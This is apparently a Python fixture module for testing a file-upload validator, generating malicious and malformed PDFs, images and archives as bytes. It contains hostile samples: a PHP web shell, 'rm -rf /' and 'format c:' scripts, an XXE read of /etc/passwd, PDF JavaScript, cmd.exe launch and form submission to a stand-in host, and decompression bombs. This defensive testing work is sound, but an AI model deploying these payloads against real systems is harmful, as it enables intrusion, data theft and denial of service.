"""Files that a machine nobody looked after, or somebody who means harm, would send. Made, not kept.

Each function gives the bytes of one; nothing here is ever run.
"""

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from typing import Any, Final

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, PngImagePlugin

Options = Any  # as Pillow and pikepdf take them
GPS: Final = 0x8825
PLACE: Final = b"N18\xc2\xb047"


def picture(size: tuple[int, int] = (300, 400), mode: str = "RGB") -> Image.Image:
    """A picture with something to see in it."""
    return Image.linear_gradient("L").resize(size).convert(mode)


def jpeg(image: Image.Image | None = None, **options: Options) -> bytes:
    """A photograph."""
    written = io.BytesIO()
    (image or picture()).save(written, "JPEG", **options)
    return written.getvalue()


def png(image: Image.Image | None = None, **options: Options) -> bytes:
    """A drawing."""
    written = io.BytesIO()
    (image or picture()).save(written, "PNG", **options)
    return written.getvalue()


def saved(image: Image.Image, kind: str, **options: Options) -> bytes:
    """A picture of some other kind."""
    written = io.BytesIO()
    image.save(written, kind, **options)
    return written.getvalue()


def document(pages: int = 1) -> Pdf:
    """A document of pages with a word on each."""
    pdf = pikepdf.new()
    for number in range(pages):
        page = pdf.add_blank_page()
        page.Contents = pdf.make_stream(f"BT (page {number}) Tj ET".encode())
    return pdf


def bytes_of(pdf: Pdf, **options: Options) -> bytes:
    """A document as its file."""
    written = io.BytesIO()
    pdf.save(written, static_id=True, **options)
    return written.getvalue()


def scan() -> bytes:
    """What a clerk attaches on a good day."""
    return bytes_of(document(2))


# --- pictures ---------------------------------------------------------------------------------


def with_place() -> bytes:
    """A photograph that says where it was taken, lying on its side, with words."""
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was turned
    exif[0x010E] = "ความลับ"
    exif[GPS] = {1: "N", 2: (18.0, 47.0, 0.0), 3: "E", 4: (98.0, 59.0, 0.0)}
    return jpeg(picture((400, 300)), exif=exif, comment=PLACE)


def with_profile() -> bytes:
    """A photograph whose colour profile is no profile."""
    return jpeg(icc_profile=b"JUNKPROFILE" * 1000)


def with_text_bomb() -> bytes:
    """A drawing whose words unpack to a hundred megabytes."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "ก" * 30_000_000, zip=True)
    return png(pnginfo=info)


def animated_png() -> bytes:
    """A moving picture that calls itself a drawing."""
    frames = [picture().rotate(angle) for angle in (0, 90, 180)]
    return saved(frames[0], "PNG", save_all=True, append_images=frames[1:])


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, body: bytes = b"") -> bytes:
    """A drawing that says how large it is, whatever it holds."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packed = zlib.compress(body or b"\0" * 1_000_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", packed)
        + _chunk(b"IEND", b"")
    )


def telephone_pair() -> bytes:
    """Two photographs in one, as telephones write them."""
    return saved(picture(), "MPO", save_all=True, append_images=[picture().rotate(180)])


# --- documents --------------------------------------------------------------------------------


def acting(action: Dictionary) -> bytes:
    """A document that does something when it is opened."""
    pdf = document()
    pdf.Root.OpenAction = action
    return bytes_of(pdf)


def acting_on_page(action: Dictionary) -> bytes:
    """A document that does something when its page is turned."""
    pdf = document()
    pdf.pages[0].obj.AA = Dictionary(O=action)
    return bytes_of(pdf)


def linked(action: Dictionary) -> bytes:
    """A document with something to click on."""
    pdf = document()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    return bytes_of(pdf)


def annotated(kind: str, **more: Options) -> bytes:
    """A document with something laid over its page."""
    pdf = document()
    laid = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 99, 99], **more)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(laid)])
    return bytes_of(pdf)


def script() -> Dictionary:
    """A script."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def spelled_otherwise() -> bytes:
    """A script whose name is written in another way of the same name."""
    return acting(script()).replace(b"/JavaScript", b"/J#61vaScript")


def packed_script() -> bytes:
    """A script in a packed part of the file, where no search finds its name."""
    pdf = document()
    pdf.Root.Names = pdf.make_indirect(
        Dictionary(JavaScript=Dictionary(Names=[String("x"), pdf.make_indirect(script())]))
    )
    return bytes_of(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def second_action() -> bytes:
    """A harmless action with another behind it."""
    pdf = document()
    go = Dictionary(S=Name.GoTo, D=[pdf.pages[0].obj, Name.Fit], Next=script())
    pdf.Root.OpenAction = go
    return bytes_of(pdf)


def with_program_inside() -> bytes:
    """A document that carries a program along."""
    pdf = document()
    pdf.attachments["งาน.exe"] = b"MZ" + b"\0" * 200
    return bytes_of(pdf)


def encrypted(user: str) -> bytes:
    """A document behind a password, or one that may not be changed."""
    locked = pikepdf.Encryption(owner="เจ้าของ", user=user)
    return bytes_of(document(), encryption=locked)


def form(**more: Options) -> bytes:
    """A form to be filled in."""
    pdf = document()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), **more)
    return bytes_of(pdf)


def external() -> bytes:
    """A document whose content is in another file."""
    pdf = document()
    pdf.pages[0].obj.Contents.F = String("\\\\203.0.113.9\\share\\x")
    return bytes_of(pdf)


def bomb(sheets: int = 1) -> bytes:
    """A document that unpacks to half a gigabyte, `sheets` times packed."""
    pdf = document()
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"\0" * 10_000_000) for _ in range(50)) + packer.flush()
    filters = [Name.FlateDecode]
    for _ in range(sheets - 1):
        packed, filters = zlib.compress(packed, 9), [*filters, Name.FlateDecode]
    pdf.pages[0].obj.Contents = Stream(pdf, packed, Filter=Array(filters))
    return bytes_of(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def huge_picture_inside() -> bytes:
    """A document with a picture of ten thousand million dots in it."""
    pdf = document()
    dots = Stream(pdf, b"\xff\xd8\xff", Width=100_000, Height=100_000, Filter=Name.DCTDecode)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=pdf.make_indirect(dots)))
    return bytes_of(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def deep(levels: int = 5_000) -> bytes:
    """A document with a list in a list in a list."""
    nested = b"[" * levels + b"]" * levels
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + nested + b">>endobj\n"
    pages = b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    page = b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
    return body + pages + page + b"trailer<</Root 1 0 R>>\n%%EOF"


def many_objects(count: int = 60_000) -> bytes:
    """A document of very many parts."""
    pdf = document()
    pdf.Root.X = Array([pdf.make_indirect(Dictionary(N=number)) for number in range(count)])
    return bytes_of(pdf)


def wide(count: int = 900_000) -> bytes:
    """A document with one very long list of lists."""
    return deep(1).replace(b"/X []", b"/X [" + b"[]" * count + b"]")


def page_tree_loop() -> bytes:
    """A document whose pages hold their own parent."""
    pages = b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        + pages
        + b"trailer<</Root 1 0 R>>"
    )


def xref_loop() -> bytes:
    """A document whose table of parts points back to itself."""
    text = scan().rpartition(b"startxref")[0]
    start = text.rfind(b"xref")
    looped = text.replace(b"trailer << ", b"trailer << /Prev %d " % start)
    return looped + b"startxref\n%d\n%%%%EOF\n" % start


def xref_of_millions() -> bytes:
    """A document that says that it has two thousand million parts."""
    return scan().replace(b"/Size 7", b"/Size 2147483647").replace(b"0 7\n", b"0 2147483647\n")


def zip_of(*names: str) -> bytes:
    """An archive, as Word and Excel are."""
    import zipfile  # noqa: PLC0415  here alone

    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name in names:
            archive.writestr(name, b"x" * 50)
    return written.getvalue()


OTHER_KINDS: Final[Mapping[str, tuple[str, bytes]]] = {
    "nothing at all": ("empty", b""),
    "a null byte": ("unknown", b"\0"),
    "words": ("unknown", "ข้อความธรรมดา".encode()),
    "noise": ("unknown", bytes(range(256)) * 20),
    "a Windows program": ("program", b"MZ\x90\0" + b"\0" * 500),
    "a Windows program that is also a document": ("program", b"MZ" + scan()),
    "a Linux program": ("program", b"\x7fELF\x02\x01\x01" + b"\0" * 500),
    "a script": ("program", b"#!/bin/sh\nrm -rf /\n"),
    "a batch file": ("program", b"@echo off\r\nformat c:\r\n"),
    "a Java class": ("program", b"\xca\xfe\xba\xbe\0\0\0\x34"),
    "a Mac program": ("program", b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
    "a Windows shortcut": ("program", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100),
    "a PHP page": ("program", b"<?php system($_GET['x']); ?>"),
    "a web page": ("web_page", b"<!DOCTYPE html><script>alert(1)</script>"),
    "a web page after blanks": ("web_page", b"\xef\xbb\xbf \n<HTML><body onload=alert(1)>"),
    "an SVG with a script": ("web_page", b"<svg xmlns='x'><script>alert(1)</script></svg>"),
    "an XML that reads files": (
        "web_page",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    ),
    "a GIF": ("other_image", saved(picture(), "GIF")),
    "a GIF that is also a program of Java": (
        "other_image",
        saved(picture(), "GIF") + zip_of("X.class"),
    ),
    "a moving GIF": (
        "other_image",
        saved(picture(), "GIF", save_all=True, append_images=[picture().rotate(90)]),
    ),
    "a WebP": ("other_image", saved(picture(), "WEBP")),
    "a TIFF": ("other_image", saved(picture(), "TIFF")),
    "a TIFF of many pages": (
        "other_image",
        saved(picture(), "TIFF", save_all=True, append_images=[picture()] * 3),
    ),
    "a BMP": ("other_image", saved(picture(), "BMP")),
    "an icon": ("other_image", saved(picture((64, 64)), "ICO")),
    "a Photoshop picture": ("other_image", b"8BPS\0\x01" + b"\0" * 100),
    "a picture of an iPhone": ("heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100),
    "an AVIF": ("heic", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1" + b"\0" * 100),
    "an archive": ("office", zip_of("a.txt")),
    "a Word document": ("office", zip_of("[Content_Types].xml", "word/document.xml")),
    "an Excel workbook with macros": ("office", zip_of("xl/workbook.xml", "xl/vbaProject.bin")),
    "an old Word document": ("office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "a rich text": ("office", b"{\\rtf1 x}"),
    "a RAR": ("office", b"Rar!\x1a\x07\x01\0"),
    "a 7z": ("office", b"7z\xbc\xaf\x27\x1c"),
    "a gzip": ("office", b"\x1f\x8b\x08\0"),
    "a document behind other data": ("junk_before", b"<< hello >>" * 20 + scan()),
}
Maker = Callable[[], bytes]
BAD_PICTURES: Final[Mapping[str, tuple[str, Maker]]] = {
    "a moving picture": ("animated", animated_png),
    "half a photograph": ("broken_image", lambda: jpeg(picture((900, 900)))[:2500]),
    "half a drawing": ("broken_image", lambda: png(picture((900, 900), "RGB"))[:700]),
    "the first bytes of a photograph": ("broken_image", lambda: b"\xff\xd8\xff"),
    "a program behind a photograph's first bytes": (
        "broken_image",
        lambda: b"\xff\xd8\xff\xe0" + b"MZ" * 500,
    ),
    "2,500 million dots": ("too_many_pixels", lambda: png_of(50_000, 50_000)),
    "one line of 60 million dots": ("too_many_pixels", lambda: png_of(60_000_000, 1)),
    "no dots at all": ("broken_image", lambda: png_of(0, 0)),
    "words that unpack to a hundred megabytes": ("broken_image", with_text_bomb),
}
BAD_DOCUMENTS: Final[Mapping[str, tuple[str, Maker]]] = {
    "a script when opened": ("script", lambda: acting(script())),
    "a script when a page is turned": ("script", lambda: acting_on_page(script())),
    "a script behind a link": ("script", lambda: linked(script())),
    "a script by another spelling": ("script", spelled_otherwise),
    "a script in a packed part": ("script", packed_script),
    "a script behind another action": ("script", second_action),
    "a program to start": (
        "action",
        lambda: acting(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    ),
    "a program to start by a click": (
        "action",
        lambda: linked(Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe")))),
    ),
    "a web page when opened": (
        "action",
        lambda: acting(Dictionary(S=Name.URI, URI=String("http://203.0.113.9/"))),
    ),
    "a web page when a page is turned": (
        "action",
        lambda: acting_on_page(Dictionary(S=Name.URI, URI=String("http://203.0.113.9/"))),
    ),
    "another file when opened": (
        "action",
        lambda: acting(Dictionary(S=Name.GoToR, F=String("\\\\203.0.113.9\\x.pdf"))),
    ),
    "data to send away": (
        "action",
        lambda: linked(Dictionary(S=Name.SubmitForm, F=String("http://203.0.113.9/"))),
    ),
    "data to fetch": ("action", lambda: acting(Dictionary(S=Name.ImportData, F=String("x.fdf")))),
    "a program carried along": ("attachment", with_program_inside),
    "a file pinned to a page": (
        "attachment",
        lambda: annotated("FileAttachment", FS=Dictionary(F=String("x"))),
    ),
    "content in another file": ("attachment", external),
    "an XFA form": ("form", lambda: form(XFA=String("<xdp/>"))),
    "a form that its reader must draw": ("form", lambda: form(NeedAppearances=True)),
    "rich media": ("media", lambda: annotated("RichMedia")),
    "a film": ("media", lambda: annotated("Movie")),
    "a body of three dimensions": ("media", lambda: annotated("3D")),
    "a password": ("encrypted", lambda: encrypted("รหัส")),
    "a password for changes alone": ("encrypted", lambda: encrypted("")),
    "the first bytes of a document": ("broken_document", lambda: b"%PDF-1.7\n"),
    "half a document": ("broken_document", lambda: scan()[:120]),
    "pages in a loop": ("broken_document", page_tree_loop),
    "no pages": ("broken_document", lambda: bytes_of(pikepdf.new())),
    "201 pages": ("too_many_pages", lambda: bytes_of(document(201))),
    "60,000 parts": ("too_many_parts", many_objects),
    "a list of 900,000 lists": ("too_many_parts", wide),
    "half a gigabyte, packed": ("too_heavy", bomb),
    "half a gigabyte, packed twice": ("too_heavy", lambda: bomb(2)),
    "half a gigabyte, packed three times": ("too_heavy", lambda: bomb(3)),
    "a picture of ten thousand million dots": ("too_heavy", huge_picture_inside),
}
